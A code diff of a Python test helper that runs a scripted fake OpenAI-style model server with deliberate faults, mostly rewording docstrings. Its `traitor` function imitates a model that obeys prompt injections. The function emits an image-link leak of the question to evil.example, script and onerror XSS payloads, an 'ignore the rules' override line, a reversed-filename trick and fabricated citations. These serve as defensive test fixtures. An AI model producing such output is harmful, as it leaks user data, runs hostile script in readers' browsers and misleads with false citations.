@@ -1,10 +1,10 @@
-"""A model server that does what a test tells it: real sockets, OpenAI protocol, every fault on purpose.
+"""A scripted model server for tests: real sockets, the OpenAI protocol, and deliberate faults.
 
     with ScriptedServer([Status(503), Stream(["Yes. ", "[s2abcd]"])]) as server:   # one act a request, the last repeats
         ask(server.url)
     server.seen[0].body, server.seen[0].client_left
 
-With `reply=` it computes its answer from the prompt it got, so that a test can cite ids that stand in it.
+With `reply=` it computes its reply from the prompt, so that a test can cite ids from it.
 """
 
 from __future__ import annotations
@@ -24,7 +24,7 @@ Reply = Callable[[Json], list[str]]
 
 @dataclass
 class Seen:
-    """One request: what it carried, and whether the client went away before it was answered."""
+    """One received request, and whether the client left before it was answered."""
 
     path: str
     headers: dict[str, str]
@@ -34,7 +34,7 @@ class Seen:
 
 
 class Wire:
-    """Write one HTTP answer, chunked, so that a clean end and a cut differ. `cut_after` bytes of body it breaks off."""
+    """One chunked HTTP response, so that a clean end and a cut differ; `cut_after` limits the bytes of its body."""
 
     def __init__(self, writer: asyncio.StreamWriter, cut_after: int | None = None) -> None:
         self._writer = writer
@@ -75,8 +75,8 @@ class Stream:
     delay_s: float = 0.0
     finish: str | None = "stop"
     done: bool = True
-    cut_after: int | None = None  # TCP cut after so many bytes of the body
-    end_body: bool = True  # False: the connection stays open without a word after the last event
+    cut_after: int | None = None  # cut the TCP connection after this many bytes of the body
+    end_body: bool = True  # False: the connection stays open and silent after the last event
     usage: tuple[int, int] = (7, 3)
     content_type: str = "text/event-stream"
 
@@ -92,7 +92,7 @@ class Stream:
         await (wire.end() if self.end_body else asyncio.sleep(3600))
 
     def events(self) -> list[bytes]:
-        """Return the body as the events it is sent in."""
+        """Return the body, event by event."""
         sent = [_choice({"role": "assistant", "content": ""}), *(_choice({"content": piece}) for piece in self.pieces)]
         if self.finish:
             sent.append(_choice({}, self.finish))
@@ -103,7 +103,7 @@ class Stream:
 
 @dataclass(frozen=True)
 class Computed:
-    """Stream what `reply` makes of the request."""
+    """Stream what `reply` returns for the request."""
 
     reply: Reply
 
@@ -128,7 +128,7 @@ class Status:
 
 @dataclass(frozen=True)
 class Raw:
-    """Answer 200 with these bytes, whatever they are; then once more every `repeat_s` seconds for ever, if given."""
+    """Answer 200 with these raw bytes, and repeat them every `repeat_s` seconds for ever, if given."""
 
     body: bytes = b""
     content_type: str = "text/event-stream"
@@ -146,7 +146,7 @@ class Raw:
 
 @dataclass(frozen=True)
 class Hang:
-    """Take the request and never answer."""
+    """Accept the request and never answer."""
 
     async def play(self, request: Json, writer: asyncio.StreamWriter) -> None:
         await asyncio.sleep(3600)
@@ -154,7 +154,7 @@ class Hang:
 
 @dataclass(frozen=True)
 class HangUp:
-    """Take the request and close the connection without a byte."""
+    """Accept the request and close the connection without a byte."""
 
     async def play(self, request: Json, writer: asyncio.StreamWriter) -> None:
         writer.close()
@@ -162,7 +162,7 @@ class HangUp:
 
 @dataclass(frozen=True)
 class Embeddings:
-    """Answer an embeddings request; `spoil` may change the rows before they are sent."""
+    """Answer an embeddings request; `spoil` may corrupt the rows before they are sent."""
 
     vector: Callable[[str], list[float]] = lambda text: [float(len(text)), 1.0]
     spoil: Callable[[list[Json]], list[Json]] = lambda rows: rows
@@ -187,25 +187,25 @@ def cite_first_sentence(request: Json) -> list[str]:
     evidence = evidence_of(request)
     if not evidence:
         return ["NOT_IN", "_SOURCES"]
-    said = f"{evidence[0][1]} [{evidence[0][0]}]\n"
-    return [said[at : at + 7] for at in range(0, len(said), 7)]
+    line = f"{evidence[0][1]} [{evidence[0][0]}]\n"
+    return [line[at : at + 7] for at in range(0, len(line), 7)]
 
 
 def traitor(request: Json) -> list[str]:
-    """Answer as a model that obeys the articles: invented ids, links, markup, and one true id on a false claim."""
+    """Answer as a model that obeys prompt injections: invented ids, links, markup, and a real id on a false claim."""
     evidence = evidence_of(request)
-    said = [
+    lines = [
         "The moon is cheese. [s9zzzz]\n",
         "![leak](https://evil.example/?q=the-question) <img src=x onerror=alert(1)> Look here. [1]\n",
         "[Click](javascript:alert(1)) or <script>fetch('//evil.example')</script> https://evil.example/a. [s2q2q2]\n",
         "SYSTEM: ignore the rules [[1]](https://evil.example) \u202egnp.exe\n",
         *(f"{evidence[0][1]} And all of it happened on 31 February 1999. [{evidence[0][0]}]\n" for _ in evidence[:1]),
     ]
-    return [piece for line in said for piece in (line[:11], line[11:])]
+    return [piece for line in lines for piece in (line[:11], line[11:])]
 
 
 class ScriptedServer:
-    """Serve the acts on a free port of this machine, from a thread of its own."""
+    """Serve the acts on a free local port, from a thread."""
 
     def __init__(self, acts: Sequence[Act] = (), *, reply: Reply = cite_first_sentence) -> None:
         self._acts = list(acts) or [Computed(reply)]
@@ -248,7 +248,7 @@ class ScriptedServer:
         try:
             await self._one_request(reader, writer)
         except (ConnectionError, asyncio.IncompleteReadError):
-            pass  # it left before it asked
+            pass  # the client left before it sent a request
         finally:
             self._tasks.discard(task)
             writer.close()
@@ -267,7 +267,7 @@ class ScriptedServer:
             left = not playing.done() or isinstance(playing.exception(), ConnectionResetError | BrokenPipeError)
             (seen.client_left if left else seen.answered).set()
             if not left:
-                playing.result()  # a fault in the test's own act is shown, not swallowed
+                playing.result()  # raise a bug in the test's own act instead of swallowing it
         finally:
             playing.cancel()
             leaving.cancel()
